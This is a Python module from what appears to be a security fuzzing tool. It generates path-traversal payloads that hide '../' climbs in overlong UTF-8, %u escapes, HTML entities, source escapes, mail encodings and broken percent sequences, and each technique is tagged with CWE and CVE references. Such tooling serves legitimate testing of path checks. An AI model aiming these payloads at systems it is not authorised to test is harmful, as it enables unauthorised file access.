"""Climbs in encodings other than plain percent-encoding: overlong UTF-8, entities, escapes."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.compose import base, behind, late, way, ways
from capfuzz.attacks.techniques.registry import Kind, technique

_LENIENT = "decodes UTF-8 after the check with a decoder that takes overlong forms"
_OVERLONG_REFS = ("CVE-2000-0884", "CVE-2008-2938")
_MARKS = {2: 0xC0, 3: 0xE0, 4: 0xF0, 5: 0xF8, 6: 0xFC}  # lead bytes, as RFC 2279 had them


def overlong(character: str, length: int) -> bytes:
    """Return the overlong UTF-8 form of an ASCII character in ``length`` bytes, 2 to 6."""
    code = ord(character)
    tail = (0x80 | (code >> shift) & 0x3F for shift in range(6 * (length - 2), -1, -6))
    return bytes([_MARKS[length] | code >> 6 * (length - 1), *tail])


def _percent(raw: bytes) -> str:
    return "".join(f"%{byte:02x}" for byte in raw)


def _overlong_ways(root: str, target: str, length: int) -> Iterator[str]:
    dot, slash = _percent(overlong(".", length)), _percent(overlong("/", length))
    yield from ways(root, target, f"{dot}{dot}/", f"..{slash}", f"{dot}{dot}{slash}")


@technique(
    "overlong-two",
    kind=Kind.PATH,
    group="overlong",
    cwe="CWE-176",
    needs=_LENIENT,
    refs=_OVERLONG_REFS,
)
def overlong_two(root: str, target: str) -> Iterator[str]:
    """Write dots and slashes in two bytes where UTF-8 takes one (RFC 3629 forbids it)."""
    yield from _overlong_ways(root, target, 2)
    yield from ways(root, target, f"..{_percent(overlong(chr(92), 2))}")


@technique(
    "overlong-three",
    kind=Kind.PATH,
    group="overlong",
    cwe="CWE-176",
    needs=f"{_LENIENT} of three bytes",
    refs=_OVERLONG_REFS,
)
def overlong_three(root: str, target: str) -> Iterator[str]:
    """Write dots and slashes in three bytes."""
    yield from _overlong_ways(root, target, 3)


@technique(
    "overlong-four",
    kind=Kind.PATH,
    group="overlong",
    cwe="CWE-176",
    needs=f"{_LENIENT} of four bytes",
)
def overlong_four(root: str, target: str) -> Iterator[str]:
    """Write dots and slashes in four bytes."""
    yield from _overlong_ways(root, target, 4)


@technique(
    "overlong-six",
    kind=Kind.PATH,
    group="overlong",
    cwe="CWE-176",
    needs=f"{_LENIENT} of five and six bytes, which RFC 2279 still knew",
)
def overlong_six(root: str, target: str) -> Iterator[str]:
    """Write dots and slashes in five and in six bytes."""
    for length in (5, 6):
        yield from _overlong_ways(root, target, length)


@technique(
    "overlong-malformed",
    kind=Kind.PATH,
    group="overlong",
    cwe="CWE-176",
    needs="decodes UTF-8 after the check and does not look at the top bits of later bytes",
    refs=("CVE-2000-0884",),
)
def overlong_malformed(root: str, target: str) -> Iterator[str]:
    """Follow a lead byte with one that is no continuation but has the right low bits."""
    yield from ways(root, target, "%c0%2e%c0%2e/", "%c0%6e%c0%6e/", "%c0%ee%c0%ee/")
    yield from ways(root, target, "..%c0%2f", "..%c0%6f", "..%c1%1c")
    yield from ways(root, target, "%c0.%c0./")


@technique(
    "overlong-raw",
    kind=Kind.PATH,
    group="overlong",
    cwe="CWE-176",
    needs="encodes the text to bytes and decodes them again with a lenient decoder",
)
def overlong_raw(root: str, target: str) -> Iterator[str]:
    """Write overlong forms as bytes that were smuggled into text, by Latin-1 or as surrogates."""
    dot, slash = overlong(".", 2), overlong("/", 2)
    for codec, errors in (("latin-1", "strict"), ("utf-8", "surrogateescape")):
        dots, mark = (2 * dot).decode(codec, errors), slash.decode(codec, errors)
        yield from ways(root, target, f"{dots}/", f"..{mark}")


@technique(
    "percent-u",
    kind=Kind.PATH,
    group="percent-u",
    cwe="CWE-177",
    needs="decodes %uXXXX after the check, as IIS and JavaScript's unescape do",
)
def percent_u(root: str, target: str) -> Iterator[str]:
    """Write dots and separators as ``%uXXXX``, plain and as characters that fold to them."""
    yield from ways(root, target, "%u002e%u002e/", "..%u002f", "%u002e%u002e%u002f", "..%u005c")
    yield from ways(root, target, "%uff0e%uff0e/", "..%u2215", "..%u2216")


@technique(
    "html-entities",
    kind=Kind.PATH,
    group="html-entities",
    cwe="CWE-173",
    needs="unescapes HTML or XML entities after the check",
)
def html_entities(root: str, target: str) -> Iterator[str]:
    """Write dots and slashes as entities: decimal, hexadecimal, named, without a semicolon."""
    yield from ways(root, target, "&#46;&#46;/", "&#x2e;&#x2E;/", "&period;&period;/")
    yield from ways(root, target, "..&sol;", "&#46&#46/", "..&#47;", "&#0000046;&#0000046;/")


@technique(
    "source-escapes",
    kind=Kind.PATH,
    group="escapes",
    cwe="CWE-150",
    needs="interprets the backslash escapes of C, Python, JavaScript or JSON after the check",
)
def source_escapes(root: str, target: str) -> Iterator[str]:
    r"""Write dots as ``\x2e``, ``\u002e``, ``\056`` and a slash as ``\/``, behind a folder."""
    for up in _ESCAPED:
        yield late(root, target, up)


@technique(
    "mail-encodings",
    kind=Kind.PATH,
    group="mail-encodings",
    cwe="CWE-173",
    needs="decodes quoted-printable, UTF-7 or encoded words after the check, as for attachments",
)
def mail_encodings(root: str, target: str) -> Iterator[str]:
    """Write climbs in the encodings of mail: quoted-printable, UTF-7, RFC 2047 words."""
    yield from ways(root, target, "=2E=2E/", "..=2F", "+AC4ALg-/", "+AC4ALgAv-")
    ups, down = way(root, target)
    yield f"{base(root)}/=?utf-8?q?{'=2E=2E/' * ups}{'/'.join(down)}?="


@technique(
    "broken-percent",
    kind=Kind.PATH,
    group="broken-encoding",
    cwe="CWE-20",
    needs="raises on an encoding that is cut short or no encoding, or skips the check for it",
)
def broken_percent(root: str, target: str) -> Iterator[str]:
    """Cut percent sequences short, with digits that are none, and with bytes that are no UTF-8."""
    del target
    for mark in ("%", "%2", "%zz", "%u", "%u00", "%ff", "%c0", "%-1", "%\u0662e"):
        yield f"{base(root)}/{mark}"


@technique(
    "climb-after-broken",
    kind=Kind.PATH,
    group="traversal-late",
    cwe="CWE-755",
    needs="skips the check where decoding fails",
)
def climb_after_broken(root: str, target: str) -> Iterator[str]:
    """Put an encoding that is none before the climb, so that a decoder gives up on the path."""
    for mark in ("%", "%zz", "%ff"):
        yield behind(root, target, f"{mark}/")


_ESCAPED = (
    "\\x2e\\x2e/",
    "\\u002e\\u002e/",
    "\\056\\056/",
    "\\x2e\\x2e\\/",
    "\\u{2e}\\u{2e}/",
    "\\N{FULL STOP}.\\/",
)
